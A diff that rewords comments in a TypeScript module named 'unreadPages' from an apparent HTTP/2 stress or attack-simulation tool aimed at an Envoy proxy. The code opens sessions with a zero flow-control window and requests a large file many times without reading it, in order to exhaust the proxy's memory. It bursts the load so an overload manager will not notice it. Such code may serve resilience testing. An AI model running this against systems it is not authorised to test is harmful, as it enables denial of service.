@@ -1,4 +1,4 @@
-/** Large answers that are asked for and never read: whoever keeps them for the caller runs out of memory. */
+/** Large responses that are requested and never read, which must not fill Envoy's memory. */
 import type { ClientHttp2Session } from 'node:http2';
 import { type Attack, forEachConnection } from './attack.ts';
 import { openSession } from './sockets.ts';
@@ -10,7 +10,7 @@ export const unreadPages: Attack = {
   short: { connections: 4, perConnection: 100 },
   holdMs: 15_000,
   async run({ target, size, tally, signal }) {
-    // All at once, when every connection is there: what comes bit by bit an overload manager sees coming.
+    // All at once, after all connections are open: an overload manager would notice a gradual load.
     const sessions: ClientHttp2Session[] = [];
     await forEachConnection(size, async (index) => {
       const session = await openSession(target, index, { initialWindowSize: 0 }).catch(() => undefined);
@@ -22,7 +22,7 @@ export const unreadPages: Attack = {
       for (let count = 0; count < size.perConnection; count += 1) {
         const end = tally.start();
         const stream = session.request({ ':path': '/docs/swagger-ui-bundle.js' });
-        stream.on('response', (headers) => end(`${headers[':status']}`)); // not a byte of the body is read
+        stream.on('response', (headers) => end(`${headers[':status']}`)); // the body is never read
         stream.on('error', () => undefined);
         stream.on('close', () => end('closed'));
       }
